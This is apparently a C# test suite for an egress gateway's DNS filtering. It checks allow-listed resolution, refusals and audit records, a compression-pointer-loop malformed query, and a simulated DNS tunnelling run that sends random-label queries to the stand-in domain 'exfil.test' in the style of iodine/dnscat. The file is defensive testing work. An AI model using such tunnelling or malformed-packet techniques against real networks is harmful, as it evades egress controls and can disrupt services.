using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using Airlock.Audit;

namespace Airlock.Egress.Tests;

public sealed class DnsTests
{
    [Fact]
    public async Task AllowedName_IsAnsweredWithTheGatewaysResolution()
    {
        await using var h = await EgressHarness.StartAsync();
        h.Attach(h.Tenant(Allow.Host("pkgs.test", 443)));

        var reply = await UdpAsync(h, DnsMessage.Query(0x1234, "PKGS.test", DnsMessage.TypeA));

        Assert.Equal(DnsMessage.NoError, reply[3] & 0x0F);
        Assert.Equal([IPAddress.Parse("127.0.0.2")], DnsMessage.ReadAddresses(reply, 0x1234));
        var record = await h.AuditedAsync(e => e.Details.GetValueOrDefault("via") == "dns", "the lookup");
        Assert.Equal(AuditOutcomes.Ok, record.Event.Outcome);
        Assert.Equal("pkgs.test:443", record.Event.Details["rule"]);
        Assert.Equal("127.0.0.2", record.Event.Details["answers"]);
    }

    [Fact]
    public async Task OtherName_IsRefusedOverUdpAndTcp_AndAudited()
    {
        await using var h = await EgressHarness.StartAsync();
        h.Attach(h.Tenant(Allow.Host("pkgs.test")));

        var udp = await UdpAsync(h, DnsMessage.Query(7, "other.test", DnsMessage.TypeA));
        var tcp = await TcpAsync(h, DnsMessage.Query(8, "other.test", DnsMessage.TypeAaaa));

        Assert.Equal(DnsMessage.Refused, udp[3] & 0x0F);
        Assert.Equal(DnsMessage.Refused, tcp[3] & 0x0F);
        Assert.Equal(0, BinaryPrimitives.ReadUInt16BigEndian(udp.AsSpan(6)));
        var records = await WaitForAsync(h, 2, e => e.Outcome == AuditOutcomes.Denied);
        Assert.All(records, r => Assert.Equal("not in network.allow", r.Event.Details["rule"]));
        Assert.Equal(["tcp", "udp"], records.Select(r => r.Event.Details["transport"]).Order());
    }

    [Fact]
    public async Task Tunnelling_ManyRandomSubdomains_GetNoAnswerAndOneAlert()
    {
        await using var h = await EgressHarness.StartAsync();
        h.Attach(h.Tenant(Allow.Host("pkgs.test")));
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        socket.Bind(new IPEndPoint(EgressHarness.Source, 0));
        await socket.ConnectAsync(h.Gateway.DnsEndPoint);

        var answers = 0;
        for (var i = 0; i < 300; i++)
        {
            // What iodine/dnscat send: data encoded in a fresh label of a domain the attacker's server answers for.
            var label = Convert.ToHexString(System.Security.Cryptography.RandomNumberGenerator.GetBytes(20)).ToLowerInvariant();
            await socket.SendAsync(DnsMessage.Query((ushort)i, $"{label}.t.exfil.test", DnsMessage.TypeA));
            var reply = new byte[512];
            var n = await socket.ReceiveAsync(reply);
            Assert.Equal(DnsMessage.Refused, reply[3] & 0x0F);
            answers += BinaryPrimitives.ReadUInt16BigEndian(reply.AsSpan(6, n - 6));
        }

        Assert.Equal(0, answers);
        var alert = await h.AuditedAsync(e => e.Kind == AuditKinds.Anomaly, "the tunnelling alert");
        Assert.Equal(AuditOutcomes.Alert, alert.Event.Outcome);
        Assert.Equal("dns_tunnel", alert.Event.Details["reason"]);
        Assert.Equal("exfil.test", alert.Event.Details["domain"]);
        await WaitForAsync(h, 300, e => e.Kind == AuditKinds.NetworkDecision && e.Outcome == AuditOutcomes.Denied);
        Assert.Single(await h.AuditLog.QueryAsync(new AuditQuery { Kind = AuditKinds.Anomaly }));
    }

    [Fact]
    public async Task MalformedQuery_GetsFormatErrorNotACrash()
    {
        await using var h = await EgressHarness.StartAsync();
        h.Attach(h.Tenant(Allow.Host("pkgs.test")));
        var pointerLoop = DnsMessage.Query(9, "pkgs.test", DnsMessage.TypeA);
        pointerLoop[12] = 0xC0;
        pointerLoop[13] = 12;

        var reply = await UdpAsync(h, pointerLoop);
        var ok = await UdpAsync(h, DnsMessage.Query(10, "pkgs.test", DnsMessage.TypeA));

        Assert.Equal(DnsMessage.FormatError, reply[3] & 0x0F);
        Assert.Equal(DnsMessage.NoError, ok[3] & 0x0F);
    }

    private static async Task<byte[]> UdpAsync(EgressHarness h, byte[] query)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        socket.Bind(new IPEndPoint(EgressHarness.Source, 0));
        await socket.SendToAsync(query, h.Gateway.DnsEndPoint);
        var buffer = new byte[4096];
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        var n = await socket.ReceiveAsync(buffer, SocketFlags.None, timeout.Token);
        return buffer[..n];
    }

    private static async Task<byte[]> TcpAsync(EgressHarness h, byte[] query)
    {
        using var socket = await h.ConnectAsync(h.Gateway.DnsEndPoint);
        await using var stream = new NetworkStream(socket);
        var framed = new byte[query.Length + 2];
        BinaryPrimitives.WriteUInt16BigEndian(framed, (ushort)query.Length);
        query.CopyTo(framed, 2);
        await stream.WriteAsync(framed);
        var length = new byte[2];
        await stream.ReadExactlyAsync(length);
        var reply = new byte[BinaryPrimitives.ReadUInt16BigEndian(length)];
        await stream.ReadExactlyAsync(reply);
        return reply;
    }

    private static async Task<List<AuditRecord>> WaitForAsync(EgressHarness h, int count, Func<AuditEvent, bool> match)
    {
        for (var i = 0; i < 200; i++)
        {
            var found = (await h.AllAuditAsync()).Where(r => match(r.Event)).ToList();
            if (found.Count >= count) return found;
            await Task.Delay(50);
        }

        throw new Xunit.Sdk.XunitException($"fewer than {count} matching audit records");
    }
}
